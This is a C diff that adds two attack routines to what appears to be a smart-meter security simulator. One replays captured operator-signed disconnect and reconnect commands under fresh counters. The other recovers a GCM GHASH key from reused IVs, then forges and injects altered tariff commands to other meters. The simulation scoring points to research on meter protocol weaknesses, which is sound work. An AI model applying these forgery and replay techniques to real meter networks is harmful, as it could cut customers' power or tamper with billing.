@@ -474,3 +474,236 @@ int msim_attack_overcollect(msim_t *s, sg17_ctx_t *ctx, const sg17_params_t *p)
     free(all);
     return 0;
 }
+
+/* The kind of an operator-signed APDU ("disconnect", "reconnect", "load_limit"), or NULL. */
+static const char *signed_kind(const uint8_t *apdu, size_t len)
+{
+    dlms_action_request_t a;
+    dlms_set_request_t q;
+    if (len && apdu[0] == DLMS_APDU_ACTION_REQUEST && dlms_action_request_decode(apdu, len, &a) == 0
+        && a.method.class_id == DLMS_CLASS_DISCONNECT_CONTROL)
+        return a.method.index == DLMS_METHOD_REMOTE_DISCONNECT  ? "disconnect"
+               : a.method.index == DLMS_METHOD_REMOTE_RECONNECT ? "reconnect"
+                                                                : NULL;
+    if (len && apdu[0] == DLMS_APDU_SET_REQUEST && dlms_set_request_decode(apdu, len, &q) == 0
+        && q.attr.class_id == DLMS_CLASS_LIMITER)
+        return "load_limit";
+    return NULL;
+}
+
+/* Re-wrapping a captured signed command: whoever holds a meter's suite-0 keys (the HES key store,
+ * or a fleet key extracted from any meter) opens the HES's frames to it, keeps the operator's
+ * general-signing as it is (the signature still verifies: it covers the command, not the frame)
+ * and sends it again under a fresh invocation counter. Frames it cannot open are skipped. */
+int msim_attack_rewrap_command(msim_t *s, sg17_ctx_t *ctx, const sg17_params_t *p)
+{
+    const char *want = sg17_param(ctx, p, "command");
+    if (!want)
+        want = "disconnect";
+    if (strcmp(want, "disconnect") != 0 && strcmp(want, "reconnect") != 0
+        && strcmp(want, "load_limit") != 0 && strcmp(want, "any") != 0) {
+        sg17_log(ctx, "rewrap_command: command is disconnect, reconnect, load_limit or any");
+        return -1;
+    }
+    uint32_t ic = MSIM_FORGED_IC_BASE;
+    size_t n = sg17_captured_count(ctx, p);
+    for (size_t i = 0; i < n; i++) {
+        const sg17_msg_t *m = sg17_captured(ctx, p, i);
+        bool ok, ciphered;
+        unsigned j = msim_meter_index(s, ctx, m->dst, &ok);
+        if (!ok || strcmp(m->type, "metering.command") != 0)
+            continue;
+        const dlms_keys_t *k = adv_keys_for(s, j);
+        uint8_t plain[MSIM_FRAME_CAP];
+        size_t pl;
+        uint32_t got;
+        if (m->len && m->payload[0] == DLMS_APDU_GENERAL_GLO_CIPHERING && !k)
+            continue; /* ciphered, and it holds no key for that meter */
+        if (msim_unwrap(k, m->payload, m->len, s->hes_systitle, 0, DLMS_IC_NONE, plain,
+                        sizeof plain, &pl, &got, &ciphered)
+                != DLMS_SEC_OK
+            || pl == 0 || plain[0] != DLMS_APDU_GENERAL_SIGNING)
+            continue;
+        dlms_general_signing_t g;
+        const char *kind;
+        if (dlms_general_signing_decode(plain, pl, &g) || !g.content
+            || !(kind = signed_kind(g.content, g.content_len))
+            || (strcmp(want, "any") != 0 && strcmp(want, kind) != 0))
+            continue;
+        if (adv_command(s, ctx, j, "metering.command", plain, pl, &ic) < 0)
+            return -1;
+    }
+    return 0;
+}
+
+/* One HLS proof the HES sent, f(StoC) = 10 || IC || tag, with the challenge it answers (taken
+ * from the meter's AARE, sent in clear). */
+typedef struct {
+    uint32_t ic;
+    uint8_t tag[DLMS_TAG_LEN];
+    uint8_t challenge[MSIM_CHALLENGE_LEN];
+} msim_hls_seen_t;
+
+static int cmp_u32(const void *a, const void *b)
+{
+    uint32_t x = *(const uint32_t *)a, y = *(const uint32_t *)b;
+    return (x > y) - (x < y);
+}
+
+static int cmp_hls_ic(const void *a, const void *b)
+{
+    return cmp_u32(&((const msim_hls_seen_t *)a)->ic, &((const msim_hls_seen_t *)b)->ic);
+}
+
+/* The real GHASH key of the fleet's EK, E_K(0^128): ground truth for scoring only. */
+static bool ghash_key_is_real(const msim_t *s, const uint8_t h[MSIM_GF_LEN])
+{
+    static const uint8_t zero[MSIM_GF_LEN] = {0};
+    uint8_t real[MSIM_GF_LEN + 16];
+    int n = 0, m = 0;
+    EVP_CIPHER_CTX *c = EVP_CIPHER_CTX_new();
+    bool ok = c && s->n_meters
+              && EVP_EncryptInit_ex(c, EVP_aes_128_ecb(), NULL, s->meters[0].keys.ek, NULL) == 1
+              && EVP_CIPHER_CTX_set_padding(c, 0) == 1
+              && EVP_EncryptUpdate(c, real, &n, zero, MSIM_GF_LEN) == 1
+              && EVP_EncryptFinal_ex(c, real + n, &m) == 1 && n + m == MSIM_GF_LEN
+              && CRYPTO_memcmp(real, h, MSIM_GF_LEN) == 0;
+    EVP_CIPHER_CTX_free(c);
+    OPENSSL_cleanse(real, sizeof real);
+    return ok;
+}
+
+/* The eavesdropper of a fleet key deployment, holding no key. From the capture it keeps the
+ * challenges (AAREs), the HES's HLS proofs and its command frames, and the highest counter the
+ * HES used towards each meter. HLS proofs that share an IV (same HES system title and counter)
+ * give the GHASH key H (msim_ghash_key_from_hls). It then takes the captured tariff update
+ * (recognised by its length: the APDU format is public) with the highest counter, flips the top
+ * bit of the tariff value in the ciphertext (CTR: the plaintext bit flips with it) and, knowing
+ * H, recomputes the tag: tag' = tag + GHASH_H(difference); without H it can only keep the old
+ * tag. Each such frame goes to every meter the frame was not for whose last counter from the HES
+ * is below the frame's. */
+int msim_attack_iv_reuse(msim_t *s, sg17_ctx_t *ctx, const sg17_params_t *p)
+{
+    size_t n = sg17_captured_count(ctx, p), nm = s->n_meters ? s->n_meters : 1, cap = n ? n : 1;
+    uint8_t(*stoc)[MSIM_CHALLENGE_LEN] = calloc(nm, sizeof *stoc);
+    bool *have_stoc = calloc(nm, 1);
+    int64_t *last_ic = malloc(nm * sizeof *last_ic);
+    msim_hls_seen_t *hls = calloc(cap, sizeof *hls);
+    uint32_t *ivs = calloc(cap, sizeof *ivs);
+    uint8_t(*chs)[MSIM_CHALLENGE_LEN] = calloc(cap, sizeof *chs);
+    uint8_t(*tags)[DLMS_TAG_LEN] = calloc(cap, sizeof *tags);
+    int rc = -1;
+    if (!stoc || !have_stoc || !last_ic || !hls || !ivs || !chs || !tags)
+        goto done;
+    uint8_t tariff[64];
+    size_t tl;
+    if (build_command(s, ctx, "tariff", 0, tariff, sizeof tariff, &tl))
+        goto done;
+    for (size_t j = 0; j < nm; j++)
+        last_ic[j] = -1;
+    size_t n_hls = 0, n_iv = 0;
+    const uint8_t *best = NULL;
+    size_t best_len = 0;
+    uint32_t best_ic = 0;
+    unsigned best_dst = 0;
+    for (size_t i = 0; i < n; i++) {
+        const sg17_msg_t *m = sg17_captured(ctx, p, i);
+        bool ok;
+        if (strcmp(m->type, "metering.aare") == 0) {
+            unsigned j = msim_meter_index(s, ctx, m->claimed_src, &ok);
+            if (ok && m->len == 1 + DLMS_SYSTITLE_LEN + MSIM_CHALLENGE_LEN) {
+                memcpy(stoc[j], m->payload + 1 + DLMS_SYSTITLE_LEN, MSIM_CHALLENGE_LEN);
+                have_stoc[j] = true;
+            }
+            continue;
+        }
+        unsigned j = msim_meter_index(s, ctx, m->dst, &ok);
+        if (!ok || m->claimed_src != s->hes)
+            continue;
+        uint32_t ic;
+        if (strcmp(m->type, "metering.hls") == 0 && m->len == DLMS_HLS_GMAC_LEN
+            && m->payload[0] == DLMS_SC_AUTH) {
+            ic = sg17_load_be32(m->payload + 1);
+            if (have_stoc[j]) {
+                msim_hls_seen_t *h = &hls[n_hls++];
+                h->ic = ic;
+                memcpy(h->tag, m->payload + DLMS_SEC_HDR_LEN, DLMS_TAG_LEN);
+                memcpy(h->challenge, stoc[j], MSIM_CHALLENGE_LEN);
+            }
+        } else if (strcmp(m->type, "metering.command") == 0 && m->len
+                   && m->payload[0] == DLMS_APDU_GENERAL_GLO_CIPHERING) {
+            const uint8_t *st, *sec;
+            size_t sl;
+            if (dlms_general_glo_decode(m->payload, m->len, &st, &sec, &sl)
+                || memcmp(st, s->hes_systitle, DLMS_SYSTITLE_LEN) != 0 || sl < DLMS_SEC_HDR_LEN)
+                continue;
+            ic = sg17_load_be32(sec + 1);
+            if (sec[0] == DLMS_SC_AUTH_ENC && sl == DLMS_SEC_HDR_LEN + tl + DLMS_TAG_LEN
+                && ic > best_ic) {
+                best = sec;
+                best_len = sl;
+                best_ic = ic;
+                best_dst = j;
+            }
+        } else {
+            continue;
+        }
+        ivs[n_iv++] = ic; /* every one of these frames has the HES's system title */
+        if ((int64_t)ic > last_ic[j])
+            last_ic[j] = ic;
+    }
+    size_t reused = 0;
+    qsort(ivs, n_iv, sizeof *ivs, cmp_u32);
+    for (size_t k = 1; k < n_iv; k++)
+        reused += ivs[k] == ivs[k - 1];
+    /* the largest group of HLS proofs under one IV */
+    qsort(hls, n_hls, sizeof *hls, cmp_hls_ic);
+    size_t g0 = 0, glen = 0;
+    for (size_t k = 0, start = 0; k < n_hls; k++) {
+        if (k + 1 == n_hls || hls[k + 1].ic != hls[k].ic) {
+            if (k + 1 - start > glen) {
+                g0 = start;
+                glen = k + 1 - start;
+            }
+            start = k + 1;
+        }
+    }
+    for (size_t k = 0; k < glen; k++) {
+        memcpy(chs[k], hls[g0 + k].challenge, MSIM_CHALLENGE_LEN);
+        memcpy(tags[k], hls[g0 + k].tag, DLMS_TAG_LEN);
+    }
+    uint8_t h[MSIM_GF_LEN];
+    bool have_h = msim_ghash_key_from_hls(chs, tags, glen, h) == 0;
+    sg17_metric_set(ctx, "iv.reused_frames", (double)reused);
+    sg17_metric_set(ctx, "iv.ghash_key_recovered", have_h && ghash_key_is_real(s, h));
+    size_t sent = 0;
+    if (best) {
+        uint8_t sec[MSIM_FRAME_CAP], frame[MSIM_FRAME_CAP], delta[64] = {0}, dt[MSIM_GF_LEN];
+        size_t at = tl - 4, fl; /* the u32 value's top octet: the set-request's last four */
+        memcpy(sec, best, best_len);
+        sec[DLMS_SEC_HDR_LEN + at] ^= 0x80;
+        delta[at] = 0x80;
+        if (have_h && msim_ghash_delta(h, delta, tl, dt) == 0)
+            for (size_t k = 0; k < DLMS_TAG_LEN; k++)
+                sec[DLMS_SEC_HDR_LEN + tl + k] ^= dt[k];
+        if (dlms_general_glo_encode(s->hes_systitle, sec, best_len, frame, sizeof frame, &fl))
+            goto done;
+        for (unsigned j = 0; j < s->n_meters; j++) {
+            if (j == best_dst || last_ic[j] >= (int64_t)best_ic)
+                continue;
+            if (sg17_inject(ctx, s->hes, sg17_entity(ctx, "meter", j), "metering.command", frame,
+                            fl)
+                < 0)
+                goto done;
+            sent++;
+        }
+    }
+    sg17_metric_set(ctx, "iv.forgeries_sent", (double)sent);
+    OPENSSL_cleanse(h, sizeof h);
+    rc = 0;
+done:
+    free(stoc), free(have_stoc), free(last_ic), free(hls), free(ivs), free(chs), free(tags);
+    if (rc)
+        sg17_log(ctx, "iv_reuse: out of memory or encoding failure");
+    return rc;
+}
